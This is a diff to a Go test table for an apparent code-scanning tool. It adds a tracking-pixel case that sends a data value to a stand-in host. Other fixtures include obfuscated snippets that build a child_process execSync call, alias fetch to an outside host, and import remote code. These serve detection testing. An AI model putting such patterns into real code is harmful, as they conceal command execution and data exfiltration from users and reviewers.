@@ -124,6 +124,8 @@ func TestExtractFolding(t *testing.T) {
 		{"python plain import_module is fine", "a.py", "import importlib\np = importlib.import_module('plugins.' + name)\n", nil},
 		{"js computed require", "a.js", "const m = require(['child', 'process'].join('_'));\nm['exe' + 'cSync']('id');\n", []string{"process", "obfuscation child_process"}},
 		{"js global alias", "a.js", "const f = globalThis['fe' + 'tch'];\nf('https://x.example.com/c');\n", []string{"network x.example.com", "obfuscation fetch"}},
+		{"js pixel", "a.ts", "const img = new Image();\nimg.src = 'https://px.example.com/p.gif?d=' + data;\n", []string{"network px.example.com"}},
+		{"js relative src is fine", "a.ts", "img.src = '/static/logo.png';\n", nil},
 		{"js import url", "a.ts", "import('https://cdn.example.com/m.mjs').then(m => m.default());\n", []string{"network cdn.example.com", "obfuscation"}},
 		{"js locale require is fine", "a.js", "const m = require('./locales/' + lang + '.json');\n", nil},
 		{"go function value", "a.go", "package x\nimport \"os\"\nvar dump = os.Environ\nfunc f() []string { return dump() }\n", []string{"env"}},
